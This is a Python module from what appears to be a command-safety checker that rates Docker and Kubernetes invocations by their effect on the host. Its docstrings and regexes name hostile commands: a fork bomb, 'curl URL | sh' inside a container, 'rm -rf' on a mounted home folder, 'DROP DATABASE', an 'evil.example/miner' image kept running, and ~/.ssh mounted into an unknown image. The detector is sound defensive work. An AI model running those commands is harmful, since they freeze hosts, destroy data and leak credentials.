"""What a container does to the host through what it is given: the command run on a folder
mounted from the host, an image from an unknown registry kept running, a read-only exec.
"""

from __future__ import annotations

import re
import shlex

from tui.core.safety import flow, paths
from tui.core.safety.context import Context
from tui.core.safety.lazy import lazy_pattern
from tui.core.safety.parse import Command
from tui.core.safety.rules.common import HIGH
from tui.core.safety.rules.known import READ_ONLY
from tui.core.safety.rules.resources import inline_exhaustion
from tui.core.safety.words import literal, split_words

# Registries people pull public images from.
KNOWN_REGISTRIES = frozenset(
    split_words(
        "docker.io index.docker.io registry-1.docker.io ghcr.io quay.io gcr.io mcr.microsoft.com "
        "public.ecr.aws registry.k8s.io k8s.gcr.io registry.gitlab.com docker.elastic.co "
        "nvcr.io registry.access.redhat.com registry.redhat.io cgr.dev localhost"
    )
)
_PERSISTENT = lazy_pattern(r"^--restart(=|$)")
_KEPT = frozenset(("always", "unless-stopped"))


def mounted_command(
    mounts: list[tuple[str, str]], program: list[str], by: Command, ctx: Context
) -> None:
    """`docker run -v "$HOME":/data alpine sh -c 'rm -rf /data/*'`: the container's command,
    with each writable mount's inside path spelt as the host folder, is rated like a host one.
    Only when the command names a mounted path: the rest stays inside the container."""
    if not program or not mounts:
        return
    code = shlex.join(program)
    changed = code
    for source, target in sorted(mounts, key=lambda pair: -len(pair[1])):
        if not target.startswith("/") or target == "/":
            continue
        pattern = re.compile(rf"(?<![\w./-]){re.escape(target.rstrip('/'))}(?=/|$|[\s'\";&|)])")
        changed = pattern.sub((source.rstrip("/") or "/").replace("\\", "\\\\"), changed)
    if changed != code:
        ctx.run_code(literal(changed), by)


def server_client(program: list[str], by: Command, ctx: Context) -> None:
    """`docker run --rm postgres psql -h db -c 'DROP DATABASE app'`, `kubectl run tmp
    --image=mysql -- mysql -h db -e '...'`: a database client in a throwaway container acts on
    the server it connects to, and is rated like the same command run here."""
    from tui.core.safety.rules.databases import SERVER_CLIENTS  # databases -> code -> here

    if program and program[0].rsplit("/", 1)[-1] in SERVER_CLIENTS:
        ctx.run_code(literal(shlex.join(program)), by)


# `curl URL | sh`, `wget -qO- URL | bash`, `sh -c "$(curl URL)"` written in a container's command.
_FETCH_AND_RUN = lazy_pattern(
    r"\b(?:curl|wget|fetch)\b[^|;&\n]{0,300}\|\s*(?:sudo\s+)?(?:ba|da|z|k|a)?sh\b|"
    r"\b(?:ba|da|z|k|a)?sh\s+-c\s+[\"']?\$\(\s*(?:curl|wget)\b"
)


def contained_download(program: list[str], by: Command, ctx: Context) -> None:
    """`docker run alpine sh -c 'curl URL | sh'`: code from the internet runs in a container;
    the container keeps what it is given (the network, mounts, a token) to do harm with."""
    if program and _FETCH_AND_RUN.search(" ".join(program)[:4000]):
        reason = "runs code downloaded from the internet inside a container, unchecked"
        ctx.add(HIGH, reason, by)


# `:(){ :|:& };:`, `b(){ b|b& }; b`: a shell function that starts two copies of itself.
_SHELL_BOMB = lazy_pattern(r"([\w:]+)\s*\(\s*\)\s*\{\s*\1\s*\|\s*\1\s*&")


def contained_bomb(program: list[str], by: Command, ctx: Context) -> None:
    """`docker run alpine sh -c ':(){ :|:& };:'`: a container shares the host's kernel and, by
    default, has no limit on processes or memory; the whole machine freezes."""
    text = " ".join(program)[:4000]
    if program and (_SHELL_BOMB.search(text) or inline_exhaustion(text) is not None):
        reason = "runs a fork bomb or memory filler in a container: the host freezes with it"
        ctx.add(HIGH, reason, by)


def unknown_registry(image: str, options: list[str], by: Command, ctx: Context) -> None:
    """`docker run -d --restart=always --network host evil.example/miner`: an image from a
    registry nobody knows, kept running for good or given the host's network."""
    first = image.split("/", 1)[0] if "/" in image else ""
    if not ("." in first or ":" in first) or first.split(":", 1)[0] in KNOWN_REGISTRIES:
        return
    kept = any(
        _PERSISTENT.match(a) and (a.split("=", 1)[1] if "=" in a else nxt) in _KEPT
        for a, nxt in zip(options, [*options[1:], ""], strict=True)
    )
    host_wide = any(
        a in ("--network=host", "--net=host", "--pid=host")
        or (a in ("--network", "--net", "--pid") and nxt == "host")
        for a, nxt in zip(options, [*options[1:], ""], strict=True)
    )
    if kept or host_wide:
        how = "kept running for good" if kept else "on the host's network"
        ctx.add(HIGH, f"runs an image from the unknown registry {first}, {how}", by)


def bind_mounts(values: list[str]) -> list[tuple[str, str]]:
    """(source, target) of each writable `--mount type=bind,source=S,target=T`."""
    found = []
    for value in values:
        fields = dict(part.partition("=")[::2] for part in value.split(","))
        source = fields.get("source") or fields.get("src") or ""
        target = fields.get("target") or fields.get("dst") or fields.get("destination") or ""
        if source and target and "readonly" not in fields and fields.get("ro") != "true":
            found.append((source, target))
    return found


def service_image(argv: list[str], by: Command, ctx: Context) -> None:
    """`docker service create ... IMAGE`: a service is restarted and kept running by design."""
    index = 0
    while index < len(argv) and argv[index].startswith("-"):
        index += 1 if "=" in argv[index] or argv[index] in _SERVICE_FLAGS else 2
    if index < len(argv):
        unknown_registry(argv[index], ["--restart=always"], by, ctx)


_SERVICE_FLAGS = frozenset(split_words("-d --detach -q --quiet -t --tty --no-healthcheck"))
_EXEC_VALUES = frozenset(split_words("-e --env -u --user -w --workdir --env-file --detach-keys"))


def exec_only_reads(argv: list[str]) -> bool:
    """`docker exec -it web ls -la /app`: the command run in the container only reads."""
    index = 0
    while index < len(argv) and argv[index].startswith("-"):
        index += 2 if argv[index] in _EXEC_VALUES else 1
    return only_reads(argv[index + 1 :])  # after the container's name


def only_reads(program: list[str]) -> bool:
    """`ls -la /app`, `cat f`: a program that only reads (not one that runs others)."""
    return bool(program) and program[0] in READ_ONLY and program[0] not in _NOT_PLAIN


# Read-only names that still run other commands or open a shell.
_NOT_PLAIN = frozenset(
    split_words(
        "env timeout nohup nice time xargs watch command builtin exec eval busybox find sort"
    )
)


# Publishers whose images are made to be handed their own credentials (`amazon/aws-cli` reads
# ~/.aws, `google/cloud-sdk` ~/.config/gcloud); an image of anyone else's is a stranger's code.
_CREDENTIAL_IMAGES = (
    *("amazon/", "public.ecr.aws/aws-cli/", "google/", "gcr.io/google.com/"),
    *("mcr.microsoft.com/", "hashicorp/", "bitnami/", "docker/"),
)


# Host folders that hold every secret below them (`/etc/shadow`, every home's keys).
_WHOLE = {"/": "the host's whole file system", "/etc": "the host's /etc", "/home": "every home"}


def secrets_given(image: str, sources: list[str], by: Command, ctx: Context) -> None:
    """`docker run -v ~/.ssh:/root/.ssh someone/tool`: the image's code can read the keys
    and send them anywhere, whether the mount is read-only or not."""
    if "/" not in image or image.startswith(_CREDENTIAL_IMAGES):
        return  # an official image (`alpine`, `node`) or one made for those credentials
    for source in sources:
        what = flow.secret_path(source) or _WHOLE.get(paths.normalise(source))
        if what is not None:
            ctx.add(HIGH, f"gives {what} to the image {image[:60]}: its code can send them", by)
            return
